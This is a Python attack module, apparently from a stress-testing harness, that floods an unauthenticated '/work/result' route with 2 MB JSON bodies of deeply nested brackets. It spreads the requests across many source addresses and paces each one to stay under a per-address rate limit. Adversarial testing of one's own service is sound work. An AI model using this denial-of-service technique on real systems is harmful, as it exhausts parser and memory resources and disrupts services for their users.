"""Posts JSON bodies of 2 MB that consist of brackets, to a route without credentials."""

from __future__ import annotations

from collections.abc import Sequence

import trio

from tools.siege import http1
from tools.siege.attack import Attack, Target
from tools.siege.crowd import Crowd, hold

NESTED = b"[" * 30 + b"]" * 30
BODY = b"[" + (NESTED + b",") * 32_000 + b"1]"
HEAD = f"POST /work/result HTTP/1.1\r\nHost: node\r\nContent-Length: {len(BODY)}\r\n\r\n".encode()
PAUSE_S = 0.25
"""A client may make 240 requests a minute."""


async def attack(target: Target, sources: Sequence[str]) -> None:
    """As many bodies as the node's limit for one address allows."""

    async def visit(stream: trio.SocketStream) -> None:
        while True:
            try:
                await http1.ask(stream, HEAD + BODY)
            except http1.BadAnswer:
                return
            await trio.sleep(PAUSE_S)

    await hold([Crowd(target.host, target.http_port, len(sources))], sources, visit)


ATTACK = Attack("JSON bodies of 2 MB with 2 million brackets, four a second", attack, point=7)
